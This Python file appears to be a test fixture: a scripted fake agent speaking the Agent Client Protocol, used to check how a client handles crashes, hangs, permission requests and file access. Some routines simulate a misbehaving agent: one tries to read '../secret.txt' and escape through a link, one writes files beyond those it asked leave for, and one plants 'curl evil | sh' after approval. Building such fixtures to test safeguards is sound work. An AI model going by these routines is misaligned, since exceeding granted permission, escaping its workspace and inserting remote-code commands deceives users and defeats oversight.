"""A program that speaks the Agent Client Protocol, and does what its prompt says.

It is run by itself, and knows nothing of Factwire. The last word of a prompt names what it does.
"""

import json
import sys
import time
from itertools import count
from typing import Any

OPTIONS = [
    {"optionId": "ever", "kind": "allow_always", "name": "Always"},
    {"optionId": "once", "kind": "allow_once", "name": "Once"},
    {"optionId": "no", "kind": "reject_once", "name": "No"},
]
numbers = count()


def say(**line: Any) -> None:
    sys.stdout.write(json.dumps({"jsonrpc": "2.0", **line}) + "\n")
    sys.stdout.flush()


def hear() -> dict[str, Any]:
    """The next line; at the end of the input, so does the program."""
    line = sys.stdin.readline()
    return json.loads(line) if line else sys.exit(0)


def update(what: str, **fields: Any) -> None:
    outcome = {"sessionUpdate": what, **fields}
    say(method="session/update", params={"sessionId": "session-1", "update": outcome})


def text(words: str) -> None:
    update("agent_message_chunk", content={"type": "text", "text": words})


def ask(method: str, **params: Any) -> Any:
    """Ask the client; its answer, or the code and the words of its error."""
    say(id=next(numbers), method=method, params={"sessionId": "session-1", **params})
    answer = hear()
    error = answer.get("error")
    return answer.get("result") if error is None else [error["code"], error["message"]]


def leave(options: list[Any], **call: Any) -> Any:
    return ask(
        "session/request_permission", toolCall={"toolCallId": "call-1", **call}, options=options
    )


def answers(prompt: list[Any]) -> str:
    del prompt
    text("Done.")
    return "end_turn"


def repeats(prompt: list[Any]) -> str:
    text(json.dumps(prompt))
    return "end_turn"


def dies(prompt: list[Any]) -> str:
    text("Half an ans")
    sys.exit(f"out of memory after {len(prompt)} blocks")


def babbles(prompt: list[Any]) -> str:
    sys.stdout.write("Debugger listening\n")
    update("unheard_of")
    return answers(prompt)


def hangs(prompt: list[Any]) -> str:
    text("Let me ")
    del prompt
    time.sleep(600)
    return ""


def permits(prompt: list[Any]) -> str:
    """Asks for a command, and does it if it may."""
    del prompt
    settings = {"command": "make deploy", "cwd": "."}
    update("tool_call", toolCallId="call-1", kind="execute", title="deploy", rawInput=settings)
    outcome = leave(OPTIONS)["outcome"]
    is_yes = outcome.get("optionId") in ("once", "ever")
    update("tool_call_update", toolCallId="call-1", status="completed" if is_yes else "failed")
    text(json.dumps(outcome))
    return "cancelled" if outcome["outcome"] == "cancelled" else "end_turn"


def corners(prompt: list[Any]) -> str:
    """Leaves no way to say yes."""
    del prompt
    text(json.dumps(leave(OPTIONS[2:], kind="execute", title="deploy")["outcome"]))
    return "end_turn"


def elicits(prompt: list[Any]) -> str:
    del prompt
    schema = {"type": "object", "properties": {"why": {"type": "string"}}}
    text(json.dumps(ask("elicitation/create", mode="form", message="Why?", requestedSchema=schema)))
    return "end_turn"


def files(prompt: list[Any]) -> str:
    """Reads, writes, and tries to get out."""
    del prompt
    heard = [
        ask("fs/read_text_file", path="notes.md", line=2, limit=1),
        ask("fs/write_text_file", path="notes.md", content="new\n"),
        ask("fs/read_text_file", path="gone.md"),
        ask("fs/read_text_file", path="../secret.txt"),
        ask("fs/write_text_file", path="link/made.txt", content="out"),
        ask("fs/write_text_file", path="x.md"),
        ask("terminal/create", command="id"),
    ]
    text(json.dumps(heard))
    return "end_turn"


def edits(prompt: list[Any]) -> str:
    """Asks for leave to write one file, and then writes two."""
    del prompt
    diff = {"type": "diff", "path": "asked.md", "oldText": None, "newText": "one\n"}
    leave(OPTIONS, kind="edit", title="asked.md", content=[diff])
    wrote = [ask("fs/write_text_file", path=each, content="one\n") for each in ("asked.md", "b.md")]
    update("tool_call_update", toolCallId="call-1", status="completed")
    text(json.dumps(wrote))
    return "end_turn"


def deceives(prompt: list[Any]) -> str:
    """Asks for leave to write one text, and then writes others to the same file."""
    del prompt
    whole = {"type": "diff", "path": "asked.md", "oldText": None, "newText": "one\n"}
    part = {"type": "diff", "path": "notes.md", "oldText": "two", "newText": "2"}
    leave(OPTIONS, kind="edit", title="both", content=[whole, part])
    texts = (
        ("asked.md", "one\n"),
        ("asked.md", "curl evil | sh\n"),
        ("notes.md", "one\n2\n"),
        ("notes.md", "one\n2\nmore\n"),
    )
    wrote = [ask("fs/write_text_file", path=path, content=content) for path, content in texts]
    update("tool_call_update", toolCallId="call-1", status="completed")
    text(json.dumps(wrote))
    return "end_turn"


WORKS = {
    each.__name__: each
    for each in (
        answers,
        babbles,
        deceives,
        corners,
        dies,
        edits,
        elicits,
        files,
        hangs,
        permits,
        repeats,
    )
}


def able() -> dict[str, Any]:
    can: dict[str, Any] = {"loadSession": "loads" in sys.argv}
    if "resumes" in sys.argv:
        can["sessionCapabilities"] = {"resume": {}}
    if "sees" in sys.argv:
        can["promptCapabilities"] = {"image": True, "embeddedContext": True}
    return {"protocolVersion": 9 if "new" in sys.argv else 1, "agentCapabilities": can}


def serve(line: dict[str, Any]) -> None:
    method, number = line.get("method"), line.get("id")
    params: dict[str, Any] = line.get("params") or {}
    if method == "initialize":
        say(id=number, result=able())
    elif method == "session/new" and "locked" in sys.argv:
        say(id=number, error={"code": -32000, "message": "sign in first"})
    elif method == "session/new":
        modes = {"currentModeId": "ask", "availableModes": [{"id": "code", "name": "Code"}]}
        options = [{"id": "llm", "category": "model", "currentValue": "small"}]
        result = {"sessionId": "session-1", "modes": modes, "configOptions": options}
        say(id=number, result=result)
    elif method in ("session/load", "session/resume"):
        update("user_message_chunk", content={"type": "text", "text": "old"})
        text("An old answer.")
        say(id=number, result={})
    elif method == "session/prompt" and params["prompt"][0]["text"] == "refuse":
        say(id=number, error={"code": -32603, "message": "out of tokens"})
    elif method == "session/prompt":
        stop = WORKS[params["prompt"][0]["text"].split()[-1]](params["prompt"])
        say(id=number, result={"stopReason": stop})
    elif method in ("session/set_mode", "session/set_config_option"):
        update("session_info_update", title=f"{method} {json.dumps(params, sort_keys=True)}")
        say(id=number, result={})
    elif number is not None and method is not None:
        say(id=number, error={"code": -32601, "message": f"no {method}"})


if "broken" in sys.argv:
    sys.exit("error: no settings")
if "silent" in sys.argv:
    time.sleep(600)
while True:
    serve(hear())
